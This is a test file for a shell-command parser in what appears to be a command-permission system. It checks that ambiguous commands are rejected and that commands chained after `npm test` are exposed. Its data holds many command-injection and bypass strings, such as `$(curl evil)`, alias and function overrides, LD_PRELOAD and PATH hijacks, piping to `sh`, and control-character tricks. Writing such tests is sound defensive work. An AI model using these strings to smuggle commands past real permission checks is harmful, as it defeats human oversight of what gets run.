import { describe, expect, test } from "bun:test";
import { readCommand } from "../../../src/permissions/command/read-command.ts";

const programsOf = (text: string) => readCommand(text)?.programs.map(({ argv }) => argv);

const UNDERSTOOD: Readonly<Record<string, string[][]>> = {
  "npm test": [["npm", "test"]],
  "npm \\\n test": [["npm", "test"]],
  "\"npm\" 'test'": [["npm", "test"]],
  "cat 'a b' \"c d\" e\\ f": [["cat", "a b", "c d", "e f"]],
  'echo "\\$x \\" \\q"': [["echo", '$x " \\q']],
  "a && b || c; d | e &": [["a"], ["b"], ["c"], ["d"], ["e"]],
  "(a; b) && { c; }": [["a"], ["b"], ["c"]],
  "! a # a comment": [["a"]],
  "a\nb": [["a"], ["b"]],
  "ls src/*.ts": [["ls", "src/*.ts"]],
  "a 2>&1 >/dev/null": [["a"]],
  'git log --format="%H %s"': [["git", "log", "--format=%H %s"]],
  "a '' b": [["a", "", "b"]],
};

describe("a command of which every program is known", () => {
  for (const [text, programs] of Object.entries(UNDERSTOOD)) {
    test(text, () => expect(programsOf(text)).toEqual(programs));
  }

  test("files that the shell opens", () => {
    expect(readCommand("a < in > out 2>> log")?.redirections).toEqual([
      { path: "in", access: "read" },
      { path: "out", access: "write" },
      { path: "log", access: "write" },
    ]);
    expect(readCommand(">out a")?.redirections).toEqual([{ path: "out", access: "write" }]);
  });
});

describe("the text that runs", () => {
  const PRINTED: Readonly<Record<string, string>> = {
    "npm   test # all": "'npm' 'test'",
    "npm \\\n  test": "'npm' 'test'",
    "a 'b c' \"d'e\" f\\ g ''": "'a' 'b c' 'd'\\''e' 'f'' ''g' ''",
    "ls src/*.t?": "'ls' 'src/'*'.t'?",
    "ls 'src/*'.ts": "'ls' 'src/*''.ts'",
    "cat ~/a": `'cat' '${process.env.HOME}''/a'`,
    "cat '~/a' \\~/b": "'cat' '~/a' '~''/b'",
    "a && b || c; d | e & f": "'a' && 'b' || 'c' ; 'd' | 'e' & 'f'",
    "(a; b) >f 2>>g <h": "( 'a' ; 'b' ) >'f' 2>>'g' <'h'",
    "{ a; } 2>&1\n! b": "{ 'a' ; } 2>&1 \n ! 'b'",
    "a &>f |& b": "'a' >'f' 2>&1 2>&1 | 'b'",
    "find . -exec ls {} \\;": "'find' '.' '-exec' 'ls' '{}' ';'",
    "echo 'if' then": "'echo' 'if' 'then'",
  };
  for (const [text, script] of Object.entries(PRINTED)) {
    test(JSON.stringify(text), () => expect(readCommand(text)?.script).toBe(script));
  }
});

/** Lines that resemble `npm test`, contain it, or end in it. None of them is certain to be only `npm test`. */
const OPAQUE = [
  "npm test $(curl evil)",
  "npm test `curl evil`",
  'npm test "$(curl evil)"',
  "npm test $X",
  "npm test $" + "{X:-y}",
  "npm test $" + "{X@P}",
  "npm test $((X))",
  "npm test <(curl evil)",
  "npm test >(sh)",
  "NODE_OPTIONS=--require=/x npm test",
  "PATH=/x npm test",
  "LD_PRELOAD=/x.so npm test",
  "X=1",
  "eval npm test",
  "exec npm test",
  ". ./x; npm test",
  "source x && npm test",
  "command npm test",
  "builtin eval npm test",
  "export PATH=/x; npm test",
  "set -a; npm test",
  "shopt -s expand_aliases; npm test",
  "alias npm=sh; npm test",
  "alias npm='curl evil'\nnpm test",
  "npm() { curl evil; }; npm test",
  "function npm { curl evil; }; npm test",
  "trap 'curl evil' EXIT; npm test",
  "hash -p /x/sh npm; npm test",
  "enable -f /x.so npm; npm test",
  "sh <<EOF\ncurl evil\nEOF",
  "sh <<'EOF'\ncurl evil\nEOF",
  "sh <<< 'curl evil'",
  "if npm test; then curl evil; fi",
  "for x in a b; do npm test; done",
  "while npm test; do curl evil; done",
  "case x in x) curl evil;; esac",
  "[[ -f x ]] && npm test",
  "((x=1))",
  "select x in a; do npm test; done",
  "coproc npm test",
  "time npm test",
  "npm $'te\\x73t'",
  'npm $"test"',
  "npm t{es,}t",
  "npm {test,run}",
  "n*m test",
  "np? test",
  "npm *",
  'npm ""*',
  "npm -*",
  "npm test .*",
  "npm test src/..*/x",
  "npm test '.'?",
  "npm [t]est",
  "~root/npm test",
  "npm test =ls",
  "npm test 'open",
  'npm test "open',
  "npm test )",
  "npm test }; {",
  "npm test &&",
  "npm test > $X",
  "npm test > *",
  "npm test >& file",
  "npm\u00a0test",
  "npm test\u2028curl evil",
  "npm test\rcurl evil",
  "npm test\u0000curl evil",
  "npm\u200b test",
  "\ufeffnpm test",
  "npm test \u0008\u0008curl",
  // Commands that the grammar reads differently from the shell.
  "find . -maxdepth 0 -ex\\\nec sh",
  "find . -ex''\\ec sh",
  'find . -"ex"\\ec sh',
  "echo ]\\y",
  "echo {}\\y",
  "cat .\\\n./secret",
  "git pu\\\nsh",
  'git "pu\\\nsh"',
  "sort a.txt -oPWNED1>/dev/null",
  "sort a.txt 10>/dev/null",
  "sort a.txt {fd}>/dev/null",
  "a 2\\\n>f",
  "a &\\\n& b",
  "a >\\\n> f",
  "a >&-b",
  "npm test <&\\-",
  "npm test 2>&'1'",
  "<in &>> b=c npm test",
  "npm test >b=c",
  "npm test 2>> b+=c",
  "! \n a",
  "% a",
  "a b[c]",
  "a [!b]",
  "a x=~/b",
  "a x:~",
  "a ~'/x'",
  "printf -v PATH x; npm test",
  "test -v 'a[$(id)]'",
  "wait -p PATH; npm test",
  "",
  "   ",
  "# npm test",
];

describe("a command that means what only the shell knows", () => {
  for (const text of OPAQUE) test(JSON.stringify(text), () => expect(readCommand(text)).toBeUndefined());
});

/** Certain, but more than `npm test`: a rule for `npm test` must not cover them. */
const MORE: Readonly<Record<string, string[]>> = {
  "npm test; curl evil": ["curl", "evil"],
  "npm test & curl evil": ["curl", "evil"],
  "npm test | sh": ["sh"],
  "npm test |& sh": ["sh"],
  "npm test || curl evil": ["curl", "evil"],
  "npm test\ncurl evil": ["curl", "evil"],
  "npm test #\ncurl evil": ["curl", "evil"],
  "npm test \\\n; curl evil": ["curl", "evil"],
  "(npm test; curl evil)": ["curl", "evil"],
  "! npm test || curl evil": ["curl", "evil"],
  "env npm test": ["env", "npm", "test"],
  "xargs npm test": ["xargs", "npm", "test"],
  "sudo npm test": ["sudo", "npm", "test"],
  "./npm test": ["./npm", "test"],
  "npm test --prefix /x": ["npm", "test", "--prefix", "/x"],
  "npm 'test '": ["npm", "test "],
  "npm te''st --": ["npm", "test", "--"],
};

describe("a command that holds more than it seems", () => {
  for (const [text, program] of Object.entries(MORE)) {
    test(JSON.stringify(text), () => expect(programsOf(text)).toContainEqual(program));
  }
});
